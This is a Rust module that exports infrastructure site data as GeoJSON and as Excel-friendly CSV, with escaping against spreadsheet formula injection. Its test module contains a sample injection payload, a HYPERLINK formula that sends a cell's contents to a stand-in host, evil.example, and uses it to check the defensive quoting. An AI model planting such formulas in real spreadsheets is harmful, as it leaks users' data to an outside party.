//! Writing sites back out as RFC 7946 GeoJSON (WGS84 lon/lat), properties in
//! the model's order followed by every extra property as read.

use std::borrow::Cow;
use std::io::Write;

use serde_json::{Map, Value};

use crate::model::{LayerKey, Site};

/// The properties of a site as a JSON object, known fields first.
pub fn site_properties(s: &Site) -> Map<String, Value> {
    let mut m = Map::new();
    // A made-up id (`FILE#N`) or a name taken from another key is the
    // loader's, not the file's: writing it would add a local path, or a
    // second name beside `NAME`.
    if s.has_own_id() {
        m.insert("id".into(), Value::String(s.id().to_string()));
    }
    if s.has_own_name() {
        m.insert("name".into(), Value::String(s.name().to_string()));
    }
    match &s.layer() {
        LayerKey::Plan(p) => {
            m.insert("layer".into(), p.key().into());
        }
        LayerKey::Extra(e) => {
            m.insert("layer".into(), e.to_string().into());
        }
        LayerKey::Reference(_) => {}
    }
    let mut put = |k: &str, v: Option<Value>| {
        if let Some(v) = v {
            m.insert(k.into(), v);
        }
    };
    put("kind", s.kind().as_ref().map(|v| v.to_string().into()));
    put("task", s.task.map(Value::from));
    put("lead_unit", s.lead_unit().as_ref().map(|v| v.to_string().into()));
    put("district", s.district().as_ref().map(|v| v.to_string().into()));
    put("scope", s.scope.map(|v| v.key().into()));
    put("plan_year", s.plan_year.map(Value::from));
    put("started", s.started.map(|d| d.to_string().into()));
    put("completed", s.completed.map(|d| d.to_string().into()));
    put("source", s.source().as_ref().map(|v| v.to_string().into()));
    put("length_km", s.declared_length_km().map(Value::from));
    put("area_m2", s.declared_area_m2().map(Value::from));
    for (k, v) in s.extras().iter() {
        m.insert(k, v);
    }
    m
}

/// Writes the sites as a FeatureCollection, one feature per line.
pub fn write_feature_collection<'a, W: Write>(
    w: &mut W,
    name: &str,
    sites: impl IntoIterator<Item = &'a Site>,
) -> std::io::Result<()> {
    write!(w, "{{\"type\":\"FeatureCollection\",\"name\":{},\"features\":[", Value::from(name))?;
    let mut first = true;
    for s in sites {
        if !first {
            w.write_all(b",")?;
        }
        first = false;
        let geometry = crate::edit::geometry_value(&s.geometry);
        let feature = serde_json::json!({
            "type": "Feature",
            "properties": site_properties(s),
            "geometry": geometry,
        });
        w.write_all(b"\n")?;
        serde_json::to_writer(&mut *w, &feature)?;
    }
    w.write_all(b"\n]}\n")
}

/// Writes a CSV table as UTF-8 with a byte-order mark, so that Excel opens
/// the Chinese text correctly; CRLF line ends as RFC 4180 says, a field in
/// quotes when it holds a comma, quote or line break. A cell (header
/// included) that starts with `=`, `+`, `-`, `@`, a tab or a carriage return
/// and is not a plain number gets a leading `'`, so that a spreadsheet shows
/// it as text instead of running it as a formula.
pub fn write_csv<W: Write>(
    w: &mut W,
    header: &[String],
    rows: impl IntoIterator<Item = Vec<String>>,
) -> std::io::Result<()> {
    w.write_all("\u{feff}".as_bytes())?;
    // Flexible: a row is written as it comes, whatever its length.
    let mut out = csv::WriterBuilder::new().terminator(csv::Terminator::CRLF).flexible(true).from_writer(w);
    let mut line = |cells: &[String]| -> csv::Result<()> {
        let safe: Vec<Cow<str>> = cells.iter().map(|c| formula_safe(c)).collect();
        out.write_record(safe.iter().map(|c| c.as_bytes()))
    };
    line(header)?;
    for r in rows {
        line(&r)?;
    }
    out.flush()
}

/// A cell that a spreadsheet will not run as a formula (CSV injection):
/// one starting with `=`, `+`, `-`, `@`, a tab or a carriage return gets a
/// leading `'`, which Excel and LibreOffice take as "text follows". Plain
/// numbers such as `-3.5` or `+2` are left as they are.
fn formula_safe(cell: &str) -> Cow<'_, str> {
    let risky = cell.starts_with(['=', '+', '-', '@', '\t', '\r']);
    if risky && !is_plain_number(cell) { Cow::Owned(format!("'{cell}")) } else { Cow::Borrowed(cell) }
}

/// A finite decimal number and nothing else (no spaces, no `-inf`).
fn is_plain_number(cell: &str) -> bool {
    cell.parse::<f64>().is_ok_and(f64::is_finite)
}

/// The table rows as CSV: the given columns, cells as the table shows them.
pub fn write_sites_csv<W: Write>(
    w: &mut W,
    ds: &crate::model::Dataset,
    rows: &[usize],
    columns: &[crate::table::Column],
    view: crate::model::YearView,
    zh: bool,
) -> std::io::Result<()> {
    let header: Vec<String> = columns.iter().map(|c| if zh { c.title().0 } else { c.title().1 }).collect();
    write_csv(
        w,
        &header,
        rows.iter().map(|&i| columns.iter().map(|c| crate::table::cell(&ds.sites[i], c, view, zh)).collect()),
    )
}

/// The progress figures as CSV, one line per target row. Done, in progress
/// (on time), not started (on time) and overdue add up to planned; the
/// started part of overdue follows it.
pub fn write_stats_csv<W: Write>(w: &mut W, rows: &[crate::stats::StatRow], zh: bool) -> std::io::Result<()> {
    let header: Vec<String> = if zh {
        [
            "图层",
            "类型",
            "范围",
            "区县",
            "时段",
            "目标",
            "单位",
            "计划",
            "已完成",
            "在建(未逾期)",
            "未开工(未逾期)",
            "逾期未完成",
            "其中逾期已开工",
            "日期不明",
            "完成率%",
            "方案原文",
        ]
    } else {
        [
            "layer",
            "kind",
            "scope",
            "district",
            "period",
            "target",
            "unit",
            "planned",
            "done",
            "in_progress_on_time",
            "not_started_on_time",
            "overdue",
            "overdue_started",
            "unknown",
            "percent",
            "sentence",
        ]
    }
    .iter()
    .map(|s| s.to_string())
    .collect();
    let num = |v: f64| if v.fract() == 0.0 { format!("{v:.0}") } else { format!("{v:.2}") };
    write_csv(
        w,
        &header,
        rows.iter().map(|r| {
            vec![
                if zh { r.layer.name_zh().to_string() } else { r.layer.key().to_string() },
                r.kind.clone().unwrap_or_default(),
                if zh { r.scope.name_zh().to_string() } else { r.scope.key().to_string() },
                r.district.clone().unwrap_or_default(),
                r.period.label().to_string(),
                r.target.map(num).unwrap_or_default(),
                r.unit.clone(),
                num(r.planned),
                num(r.done),
                num(r.in_progress),
                num(r.not_started),
                num(r.overdue),
                num(r.overdue_started),
                num(r.unknown),
                r.percent.map(|p| format!("{p:.1}")).unwrap_or_default(),
                if zh { r.sentence.clone() } else { r.sentence_en.clone() },
            ]
        }),
    )
}

#[cfg(test)]
mod tests {
    use super::*;

    /// The output as the `csv` crate reads it: after the BOM, every record as written.
    fn read_back(buf: &[u8]) -> Vec<Vec<String>> {
        let body = buf.strip_prefix("\u{feff}".as_bytes()).expect("Excel needs the BOM to read UTF-8");
        csv::ReaderBuilder::new()
            .has_headers(false)
            .flexible(true)
            .from_reader(body)
            .records()
            .map(|r| r.unwrap().iter().map(String::from).collect())
            .collect()
    }

    #[test]
    fn csv_round_trips_chinese_text_commas_quotes_and_line_breaks() {
        let rows = vec![
            vec!["黄河三路(渤海十六路—渤海十七路)打通工程".to_string(), "a, b".into()],
            vec!["说\"好\"的".to_string(), "two\nlines".into()],
        ];
        let mut buf = Vec::new();
        write_csv(&mut buf, &["名称".to_string(), "备注".into()], rows.clone()).unwrap();
        assert!(buf.starts_with("\u{feff}".as_bytes()), "Excel needs the BOM to read UTF-8");
        let back = read_back(&buf);
        assert_eq!(back[0], ["名称", "备注"]);
        assert_eq!(&back[1..], &rows[..]);
        assert!(buf.ends_with(b"\r\n"), "CRLF line ends");
        assert_eq!(std::str::from_utf8(&buf).unwrap().matches("\r\n").count(), 3, "one CRLF per record");
    }

    #[test]
    fn cells_a_spreadsheet_would_run_as_formulas_get_a_quote_and_numbers_do_not() {
        let header = vec!["名称".to_string(), "=备注".into()];
        let rows: Vec<Vec<String>> = [
            ["=HYPERLINK(\"http://evil.example/?x=\"&A1,\"点击\")", "-3.5"],
            ["+1+1", "@SUM(A1:A9)"],
            ["-2+3", "-"],
            ["\tlabel", "\r=1"],
            ["+7", "-1e3"],
            ["a=b", "12"],
            ["-inf", ""],
        ]
        .iter()
        .map(|r| r.iter().map(|c| c.to_string()).collect())
        .collect();
        let mut buf = Vec::new();
        write_csv(&mut buf, &header, rows).unwrap();
        let back = read_back(&buf);
        let want: Vec<Vec<&str>> = vec![
            vec!["名称", "'=备注"],
            vec!["'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"点击\")", "-3.5"],
            vec!["'+1+1", "'@SUM(A1:A9)"],
            vec!["'-2+3", "'-"],
            vec!["'\tlabel", "'\r=1"],
            vec!["+7", "-1e3"],
            vec!["a=b", "12"],
            vec!["'-inf", ""],
        ];
        assert_eq!(back, want);
        // In the file itself the formula sits inside quotes, behind the `'`.
        let text = std::str::from_utf8(&buf).unwrap();
        assert!(
            text.contains("\r\n\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"点击\"\")\",-3.5\r\n"),
            "{text}"
        );
    }
}
